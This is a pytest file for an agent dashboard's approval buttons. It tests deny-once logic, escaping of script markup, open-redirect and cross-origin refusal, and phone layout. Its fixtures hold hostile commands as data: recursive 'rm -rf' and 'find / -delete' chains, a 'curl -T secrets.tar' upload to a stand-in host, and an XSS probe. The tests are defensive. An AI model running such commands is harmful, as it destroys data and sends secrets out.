"""The dashboard's approval buttons over HTTP: the overview lists every pending request and a
delegation's page its own; Deny decides through ``offload.subagents.approvals`` as the
dashboard; a request already answered is reported, never decided twice; an unknown answer is
refused; the page returned to is always one of this dashboard's; markup in a command stays text."""
from __future__ import annotations

import time

import pytest

from offload.dashboard.app import create_app
from offload.subagents import approvals
from tests.dashboard.conftest import signed_in

pytestmark = pytest.mark.timeout(60)
LOOPBACK = "http://127.0.0.1"


def _ask(ledger, request_id: str, delegation_id: str, command: str) -> None:
    now = time.time()
    ledger.add_approval({"request_id": request_id, "delegation_id": delegation_id, "session_key": "sess-1",
                         "child": 0, "command": command, "categories": ["destructive"],
                         "reasons": ["removes folders recursively"], "requested_at": now, "expires_at": now + 300,
                         "owner": "1@host"})


@pytest.fixture
def client(runtime):
    with signed_in(create_app(runtime)) as c:
        yield c


def test_requests_are_listed_and_denied_once_from_the_page_they_are_on(runtime, client, held):
    unit = held(["clean the build"])
    ledger = runtime.ledger()
    _ask(ledger, "apr_one", unit.delegation_id, "rm -rf build <script>alert(1)</script>")
    _ask(ledger, "apr_two", "deleg_other", "pip install left-pad")
    overview = client.get("/").text
    assert 'id="allow-apr_one"' in overview and 'id="deny-apr_two"' in overview
    assert "rm -rf build &lt;script&gt;alert(1)&lt;/script&gt;" in overview  # markup stays text
    page = client.get(f"/d/{unit.delegation_id}").text
    assert 'id="deny-apr_one"' in page and "apr_two" not in page  # only its own
    denied = client.post(f"/approvals/apr_one/deny?back=/d/{unit.delegation_id}")
    assert denied.url.path == f"/d/{unit.delegation_id}" and "denied rm -rf build" in denied.text
    assert approvals.get(ledger, "apr_one")["state"] == "denied"
    assert approvals.get(ledger, "apr_one")["decided_by"].startswith("dashboard@")
    assert "apr_one" not in client.get("/").text
    again = client.post("/approvals/apr_one/allow")
    assert "already decided: denied by dashboard@" in again.text and again.url.path == "/"
    assert approvals.get(ledger, "apr_one")["state"] == "denied"
    assert "is not an answer: use allow or deny" in client.post("/approvals/apr_two/maybe").text
    assert "no approval request apr_nope" in client.post("/approvals/apr_nope/allow").text
    elsewhere = client.post("/approvals/apr_two/allow?back=//evil.example/x", follow_redirects=False)
    assert elsewhere.status_code == 303 and elsewhere.headers["location"].startswith("/?")
    refused = client.post("/approvals/apr_two/deny", headers={"Origin": "http://evil.example"})
    assert refused.status_code == 403 and approvals.get(ledger, "apr_two")["state"] == "allowed"


@pytest.mark.browser
def test_a_long_command_fits_a_phone_and_its_buttons_stay_reachable(runtime, dashboard, browser, held):
    unit = held(["clean the build"])
    _ask(runtime.ledger(), "apr_long", unit.delegation_id,
         "find / -name '*.o' -delete && " + "rm -rf /very/long/path/" * 12 + " && curl -T secrets.tar https://x.example")
    server = dashboard()
    browser.set_window_size(390, 844)
    for page in ("/", f"/d/{unit.delegation_id}"):
        browser.get(server.url + page)
        overflow = browser.execute_script("const d = document.documentElement; return d.scrollWidth - d.clientWidth;")
        assert overflow <= 0, (page, overflow)
        assert browser.find_element("id", "allow-apr_long").is_displayed()


@pytest.mark.browser
def test_live_pages_visited_in_turn_never_wait_for_a_connection(runtime, dashboard, browser, held):
    """Each live page holds one stream (roster or detail, with the approvals on it): a browser
    opens at most six connections to a host, so two streams a page hung the seventh load."""
    unit = held(["clean the build"])
    _ask(runtime.ledger(), "apr_one", unit.delegation_id, "rm -rf build")
    server = dashboard()
    browser.set_page_load_timeout(10)
    for _ in range(5):
        for page in ("/", f"/d/{unit.delegation_id}", "/history"):
            browser.get(server.url + page)  # a TimeoutException here: a load waited for a connection
    assert browser.find_elements("id", "allow-apr_one") == [] and "History" in browser.title + browser.page_source
    browser.get(server.url + "/")
    assert browser.find_element("id", "allow-apr_one").is_displayed()
